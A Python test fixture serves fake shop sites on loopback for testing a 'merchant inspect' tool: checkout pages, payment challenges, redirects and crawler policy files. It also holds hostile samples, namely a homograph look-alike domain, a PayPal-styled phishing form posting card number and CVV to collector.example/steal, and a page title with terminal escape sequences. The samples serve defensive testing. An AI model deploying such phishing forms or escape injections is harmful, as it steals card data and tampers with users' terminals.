"""Test sites for ``merchant inspect``: one threaded loopback server, many host names.

Every page is chosen by the ``Host`` header, so a test reaches ``shop.test``, a look-alike
or a forbidding site on the same port through ``--resolve HOST:PORT:127.0.0.1``. The
server records the headers of every request it received, so a test can prove that no
credential or cookie was ever sent.
"""

from __future__ import annotations

import base64
import http.server
import json
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from tests.support.threaded_server import serving

LOOKALIKE = "xn--shp-ted.test"  # "shоp.test" with a Cyrillic о
NETWORK_ID = "profile_inspect_test"

CARD_PAGE = """<!doctype html><html><head><title>Checkout · Trail Shop</title>
<meta property="og:site_name" content="Trail Shop"></head><body>
<h2 id="item-name">Lantern</h2><p>Total <strong id="total" data-amount="2400">$24.00</strong></p>
<form method="post" action="/pay" id="checkout-form">
<input name="number" autocomplete="cc-number"><input name="expiry" autocomplete="cc-exp">
<input name="cvc" autocomplete="cc-csc"><button>Pay</button></form></body></html>"""

# A Stripe-hosted checkout as agents meet it: Link button, card form, the agent block.
STRIPE_CHECKOUT_PAGE = """<!doctype html><html><head><title>Trail Shop</title>
<script src="https://js.stripe.com/v3/"></script></head><body>
<div class="OrderSummary"><span class="OrderSummary-totalAmount">$31.50</span></div>
<button class="LinkButton" aria-label="Pay with Link">Pay with Link</button>
<form action="https://checkout.stripe.com/c/pay/cs_test_a1" method="post">
<input name="cardNumber" autocomplete="cc-number"><input name="cardExpiry" autocomplete="cc-exp">
<input name="cardCvc" autocomplete="cc-csc"></form>
<div class="AiAgentPaymentSteering" data-stripe-merchant-account="acct_1InspectTest">
<input type="checkbox" name="ai_agent"><input name="link_pay_token"></div></body></html>"""

ELEMENTS_PAGE = """<!doctype html><html><head><title>Pay · Trail Shop</title>
<script src="https://js.stripe.com/v3/"></script>
<script type="application/ld+json">{"@type": "Order", "totalPaymentDue":
{"price": "12.75", "priceCurrency": "EUR"}}</script></head><body>
<form id="payment-form"><div id="link-authentication-element"></div>
<div id="payment-element"></div><button>Pay</button></form></body></html>"""

PLAIN_PAGE = """<!doctype html><html><head><title>About us</title>
<meta name="GPTBot" content="noindex, nofollow"></head>
<body><p>We sell lanterns. Total happiness guaranteed.</p></body></html>"""

PHISHING_PAGE = """<!doctype html><html><head><title>PayPal.com | Sign in to pay</title></head>
<body><form action="https://collector.example/steal" method="post">
<input name="cardnumber"><input name="cvv"></form></body></html>"""

HOSTILE_TITLE_PAGE = """<!doctype html><html><head><title>Shop\x1b]0;owned\x07\x1b[2J now</title>
</head><body><input autocomplete="cc-number"><input autocomplete="cc-csc"></body></html>"""

FORBIDDING_AGENTS = "# Agents\nUser-agent: *\nDisallow: /\n"
SHOP_ROBOTS = "User-agent: *\nDisallow: /admin\n\nUser-agent: GPTBot\nAllow: /\n"
SHOP_LLMS = (
    "# Trail Shop\n> Lanterns and forecasts.\nAI agents are welcome to buy on a person's behalf.\n"
)


def _b64(value: object) -> str:
    raw = json.dumps(value, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def challenge(method: str, request: dict[str, object], **extra: str) -> str:
    params = {
        "id": f"{method}-1",
        "realm": "shop.test",
        "method": method,
        "intent": "charge",
        "request": _b64(request),
        **extra,
    }
    return "Payment " + ", ".join(f'{k}="{v}"' for k, v in params.items())


STRIPE_REQUEST = {
    "amount": "250",
    "currency": "usd",
    "methodDetails": {"networkId": NETWORK_ID, "paymentMethodTypes": ["card"]},
}
TEMPO_REQUEST = {"amount": "2500000", "currency": "0x20c0", "recipient": "0x11"}


@dataclass
class Sites:
    port: int
    scheme: str = "http"
    seen: list[dict[str, str]] = field(default_factory=list)
    server_names: list[str | None] = field(default_factory=list)
    """Over HTTPS, the name each client asked for in its TLS handshake (SNI)."""

    def url(self, host: str, path: str) -> str:
        return f"{self.scheme}://{host}:{self.port}{path}"

    def resolve(self, *hosts: str) -> dict[tuple[str, int], str]:
        return {(host, self.port): "127.0.0.1" for host in hosts}

    def resolve_args(self, *hosts: str) -> list[str]:
        return [arg for h in hosts for arg in ("--resolve", f"{h}:{self.port}:127.0.0.1")]


class _Handler(http.server.BaseHTTPRequestHandler):
    sites: Sites
    lock = threading.Lock()

    def log_message(self, *args: object) -> None:
        pass

    def _answer(
        self, status: int, body: str, kind: str = "text/html", headers: dict[str, str] | None = None
    ) -> None:
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Set-Cookie", "session=tracking; Path=/")
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def do_POST(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        with self.lock:
            self.sites.seen.append({k.lower(): v for k, v in self.headers.items()})
        host = (self.headers.get("Host") or "").rsplit(":", 1)[0]
        path = self.path
        if (host, path) == ("shop.test", "/huge"):
            self._huge()
            return
        port = self.sites.port
        text = "text/plain"
        routes: dict[tuple[str, str], tuple[int, str, str, dict[str, str]]] = {
            ("shop.test", "/robots.txt"): (200, SHOP_ROBOTS, text, {}),
            ("shop.test", "/llms.txt"): (200, SHOP_LLMS, text, {}),
            ("shop.test", "/checkout"): (200, CARD_PAGE, "text/html", {}),
            ("shop.test", "/hosted"): (200, STRIPE_CHECKOUT_PAGE, "text/html", {}),
            ("shop.test", "/elements"): (200, ELEMENTS_PAGE, "text/html", {}),
            ("shop.test", "/about"): (200, PLAIN_PAGE, "text/html", {}),
            ("shop.test", "/hostile"): (200, HOSTILE_TITLE_PAGE, "text/html", {}),
            ("shop.test", "/noai"): (200, CARD_PAGE, "text/html", {"X-Robots-Tag": "noai"}),
            ("shop.test", "/api/forecast"): (
                402,
                '{"error": "payment required"}',
                "application/json",
                {
                    "WWW-Authenticate": challenge("tempo", TEMPO_REQUEST)
                    + ", "
                    + challenge("stripe", STRIPE_REQUEST, description="One forecast")
                },
            ),
            ("shop.test", "/api/tempo-only"): (
                402,
                "{}",
                "application/json",
                {"WWW-Authenticate": challenge("tempo", TEMPO_REQUEST)},
            ),
            ("shop.test", "/go"): (
                302,
                "",
                "text/html",
                {"Location": f"http://pay.shop.test:{port}/checkout"},
            ),
            ("pay.shop.test", "/checkout"): (
                302,
                "",
                "text/html",
                {"Location": f"http://elsewhere.test:{port}/checkout"},
            ),
            ("shop.test", "/loop"): (302, "", "text/html", {"Location": "/loop"}),
            ("elsewhere.test", "/checkout"): (200, CARD_PAGE, "text/html", {}),
            ("forbidding.test", "/agents.txt"): (200, FORBIDDING_AGENTS, text, {}),
            ("forbidding.test", "/checkout"): (200, CARD_PAGE, "text/html", {}),
            (LOOKALIKE, "/checkout"): (200, CARD_PAGE, "text/html", {}),
            (LOOKALIKE, "/signin"): (200, PHISHING_PAGE, "text/html", {}),
        }
        status, body, kind, headers = routes.get(
            (host, path), (404, "<html><title>Not found</title></html>", "text/html", {})
        )
        self._answer(status, body, kind, headers)


HUGE_BYTES = 3 * 1024 * 1024


def _huge(self: _Handler) -> None:
    """A checkout followed by more padding than inspect reads; the client may hang up early."""
    head = CARD_PAGE.replace("</body></html>", "<!--").encode()
    self.send_response(200)
    self.send_header("Content-Type", "text/html")
    self.send_header("Content-Length", str(len(head) + HUGE_BYTES))
    self.end_headers()
    sent = 0
    try:
        self.wfile.write(head)
        chunk = b"x" * 65536
        while sent < HUGE_BYTES:
            self.wfile.write(chunk)
            sent += len(chunk)
    except OSError:
        pass


_Handler._huge = _huge  # type: ignore[attr-defined]


@contextmanager
def running_sites(tls: ssl.SSLContext | None = None) -> Iterator[Sites]:
    """The sites over plain HTTP, or over HTTPS with ``tls`` (a server context holding a
    certificate for the host names a test uses)."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    sites = Sites(port=server.server_address[1], scheme="https" if tls else "http")
    if tls is not None:

        def record_server_name(_socket: object, name: str | None, _context: object) -> None:
            sites.server_names.append(name)

        tls.sni_callback = record_server_name
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    handler = type("Handler", (_Handler,), {"sites": sites})
    server.RequestHandlerClass = handler
    with serving(server):
        yield sites
